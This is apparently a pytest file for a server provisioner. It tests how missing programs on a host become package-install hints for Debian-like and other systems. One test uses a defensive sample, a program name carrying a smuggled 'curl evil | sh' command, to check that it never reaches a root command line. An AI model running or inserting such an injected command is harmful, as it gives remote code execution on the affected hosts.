"""What a host lacks is told with the line that installs it, where the system's packages are known."""

from __future__ import annotations

from pathlib import Path

import pytest

from provisioner.hosts.facts import OperatingSystem
from provisioner.hosts.packages import PACKAGES, lacks
from provisioner_host import observe

PROGRAMS = {*observe.NEEDED, observe.NEEDED_WITHOUT_KERNEL, observe.NEEDED_FOR_UNITS}


@pytest.mark.parametrize("system", sorted(PACKAGES))
def test_every_program_that_a_host_looks_for_has_a_package(system: str) -> None:
    _, packages = PACKAGES[system]
    assert set(packages) == PROGRAMS


@pytest.mark.parametrize(
    "system",
    [
        OperatingSystem("debian"),
        OperatingSystem("ubuntu", ("debian",)),
        OperatingSystem("raspbian", ("debian",)),
        OperatingSystem("linuxmint", ("ubuntu", "debian")),
    ],
)
def test_debian_and_what_is_like_it_gets_the_line_that_installs(system: OperatingSystem) -> None:
    error = lacks("relay-viettel-1", system, ("wireguard-go", "ffmpeg", "nft", "systemd-run", "dbus", "wg", "ip"))
    packages = "dbus, ffmpeg, iproute2, nftables, systemd, wireguard-go, wireguard-tools"
    assert error.message == f"relay-viettel-1 lacks {packages}"
    assert error.hint == f"run on it, as root: apt-get install -y {packages.replace(',', '')}"
    assert (error.object, error.exit_code) == ("relay-viettel-1", 5)


@pytest.mark.parametrize(
    ("system", "name"), [(OperatingSystem("rocky", ("rhel", "fedora")), "rocky"), (OperatingSystem(), "its system")]
)
def test_of_another_system_the_programs_are_named_and_no_package_is_made_up(system: OperatingSystem, name: str) -> None:
    error = lacks("relay-viettel-1", system, ("wg", "nft"))
    assert error.message == "relay-viettel-1 lacks the programs nft, wg"
    assert error.hint == f"install on it what brings them: the package names of {name} are not known here"


def test_what_a_host_calls_a_program_never_stands_in_a_line_for_root() -> None:
    error = lacks("relay-viettel-1", OperatingSystem("debian"), ("nft", "wg; curl evil | sh"))
    assert error.message == "relay-viettel-1 lacks the programs nft, wg; curl evil | sh"
    assert "apt-get" not in error.hint


def test_the_name_of_a_system_is_not_longer_than_a_name() -> None:
    error = lacks("relay-viettel-1", OperatingSystem("x" * 5000), ("nft",))
    assert len(error.hint) < 200


def test_a_host_tells_its_system_by_its_os_release(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    release = tmp_path / "os-release"
    monkeypatch.setattr(observe, "_OS_RELEASE", release)
    assert observe._system() == {"id": "", "like": []}  # noqa: SLF001
    release.write_text('# a comment\n\nNAME="X"\nID=\'linuxmint\'\nID_LIKE="ubuntu debian"\n')
    assert observe._system() == {"id": "linuxmint", "like": ["ubuntu", "debian"]}  # noqa: SLF001
